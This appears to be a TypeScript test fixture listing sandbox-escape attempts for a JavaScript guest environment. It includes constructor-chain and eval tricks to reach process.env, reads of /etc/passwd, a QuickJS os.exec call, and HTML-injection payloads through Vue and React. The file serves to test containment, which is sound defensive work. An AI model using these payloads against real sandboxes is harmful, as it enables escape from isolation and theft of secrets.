import { group, type HostileGroup, program } from './hostile-case.ts';

/** Attempts to reach the host from inside the guest. */
export const escapeAttacks: HostileGroup[] = [
  group('reaching for the host', 'contained', {
    'process.env': 'export const answer = () => process.env.CHARTERED_CANARY;',
    'globalThis.process': 'export const answer = () => globalThis.process?.env?.CHARTERED_CANARY;',
    'process by Function': 'export const answer = () => Function("return process")().env.CHARTERED_CANARY;',
    'process by constructor chain':
      'export const answer = () => answer.constructor.constructor("return process")().env.CHARTERED_CANARY;',
    'process by console':
      'export const answer = () => console.log.constructor("return process")().env.CHARTERED_CANARY;',
    'process by this':
      'export function answer() { return Function("return this")().process.mainModule.require("fs"); }',
    'process by timer':
      'export const answer = () => new Promise((d) => setTimeout(() => d(setTimeout.constructor("return process")().env), 1));',
    'process by error':
      'export const answer = () => { try { null.x; } catch (e) { return e.constructor.constructor("return process")().env; } };',
    'process by an async function':
      'export const answer = async () => (async () => {}).constructor("return process")().then((p) => p.env);',
    'process by a generator':
      'export const answer = () => (function* () {}).constructor("yield process")().next().value.env;',
    'indirect eval': 'export const answer = () => (0, eval)("process.env.CHARTERED_CANARY");',
    'require by eval': 'export const answer = () => eval("require")("fs").readFileSync("/etc/passwd", "utf8");',
    'import by eval':
      'export const answer = () => eval("import(\'node:fs\')").then((fs) => fs.readFileSync("/etc/passwd", "utf8"));',
    'import by Function': 'export const answer = () => Function("return import(\'fs\')")();',
    'module loader of QuickJS':
      'export const answer = () => Function("return import(\'std\')")().then((std) => std.loadFile("/etc/passwd"));',
    'os module of QuickJS':
      'export const answer = () => Function("return import(\'os\')")().then((os) => os.exec(["id"]));',
    'std global': 'export const answer = () => std.loadFile("/etc/passwd");',
    'load and print of a shell':
      'export const answer = () => load("/etc/passwd") ?? print("x") ?? read("/etc/passwd");',
    WebAssembly: 'export const answer = () => new WebAssembly.Memory({ initial: 1 }).buffer.byteLength;',
    'WebAssembly by name': 'export const answer = () => globalThis["Web" + "Assembly"].compile(new Uint8Array(8));',
    fetch: 'export const answer = () => fetch("http://127.0.0.1:3000/api/health").then((r) => r.text());',
    XMLHttpRequest:
      'export const answer = () => { const x = new XMLHttpRequest(); x.open("GET", "/", false); x.send(); return x.responseText; };',
    WebSocket: 'export const answer = () => new WebSocket("ws://127.0.0.1");',
    Worker: 'export const answer = () => new Worker("data:text/javascript,postMessage(1)");',
    importScripts: 'export const answer = () => importScripts("https://example.com/x.js");',
    'SharedArrayBuffer wait':
      'export const answer = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1e9);',
    FinalizationRegistry:
      'export const answer = () => new Promise((d) => new FinalizationRegistry(d).register({}, process));',
    'Error.prepareStackTrace':
      'export const answer = () => { Error.prepareStackTrace = (e, s) => s; const s = new Error().stack; return s[0].getThis().process; };',
    'structured stack':
      'export const answer = () => { Error.captureStackTrace?.({}); return new Error().stack.match(/node:.*/)[0]; };',
    'callee and caller': 'export function answer() { return arguments.callee.caller.arguments[0].process; }',
    'caller of a sloppy function':
      'export const answer = () => Function("return (function f() { return f.caller; })()")().constructor("return process")();',
    'Emscripten module': 'export const answer = () => Module._malloc(8) + HEAPU8[0];',
    'name of the harness': 'export const answer = () => harness.observe.constructor("return process")().env;',
    'names of the child': 'export const answer = () => program.start([]) ?? segments ?? chartered;',
    'global names':
      'export const answer = () => Object.getOwnPropertyNames(globalThis).filter((n) => /process|require|host|harness|chartered|canary/i.test(n)).map((n) => globalThis[n]);',
    'environment by Date':
      'export const answer = () => new Date().toString() + Intl.DateTimeFormat().resolvedOptions().timeZone;',
    exit: 'process.exit(0); export const answer = () => 1;',
    abort: 'export const answer = () => { throw Object.assign(new Error("unreachable"), { name: "RuntimeError" }); };',
    'quit of a shell': 'export const answer = () => quit(0) ?? exit(0);',
    debugger: 'export const answer = () => { debugger; return 1; };',
    'with statement in sloppy code': 'export const answer = () => Function("o", "with (o) { return process }")({});',
    'realm by iframe':
      'export const answer = () => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.process; };',
    'proxy as a global prototype':
      'Object.setPrototypeOf(globalThis, new Proxy({}, { get: (t, k) => { throw new Error(String(k)); }, has: () => true })); export const answer = () => process.env;',
  }),
  {
    attack: 'frameworks as a way out',
    cases: [
      program('Vue compiler to code', '', {
        environment: 'vue',
        files: {
          'App.vue':
            '<script setup>const p = (() => {}).constructor("return process")</script><template><p>{{ p().env.CHARTERED_CANARY }}</p></template>',
        },
        run: 'mount(m.default); return screen.text("p");',
      }),
      program('Vue global in a template', '', {
        environment: 'vue',
        files: {
          'App.vue':
            '<template><p>{{ $el?.ownerDocument?.defaultView?.process ?? constructor.constructor("return process")().env }}</p></template>',
        },
        run: 'mount(m.default); return screen.text("p");',
      }),
      program('Vue v-html with a script', '', {
        environment: 'vue',
        files: {
          'App.vue':
            "<template><div v-html=\"'<script>globalThis.x = process.env<' + '/script><img src=x onerror=alert(1)>'\" /></template>",
        },
        run: 'mount(m.default); return [globalThis.x, screen.text("div")];',
      }),
      program('React script element', '', {
        environment: 'react',
        files: { 'App.jsx': 'export default () => <script>{"globalThis.x = process.env"}</script>;' },
        run: 'mount(m.default); return globalThis.x ?? null;',
      }),
      program('React dangerous HTML', '', {
        environment: 'react',
        files: {
          'App.jsx':
            'export default () => <p dangerouslySetInnerHTML={{ __html: "<iframe src=file:///etc/passwd></iframe>" }} />;',
        },
        run: 'mount(m.default); return screen.text("p");',
      }),
      program('React internals', '', {
        environment: 'react',
        files: {
          'App.jsx':
            'import React from "react"; export default () => <p>{String(Object.values(React)[0].H?.constructor.constructor("return process")().env)}</p>;',
        },
        run: 'mount(m.default); return screen.text("p");',
      }),
      program('document.defaultView', '', {
        environment: 'react',
        files: { 'App.jsx': 'export default () => <p>{document.defaultView.process.env.CHARTERED_CANARY}</p>;' },
        run: 'mount(m.default); return screen.text("p");',
      }),
      program('event handler text', '', {
        environment: 'react',
        files: {
          'App.jsx':
            'export default () => <p ref={(e) => { e?.setAttribute("onclick", "globalThis.x = process.env"); e?.click(); }}>x</p>;',
        },
        run: 'mount(m.default); return globalThis.x ?? null;',
      }),
    ],
  },
];
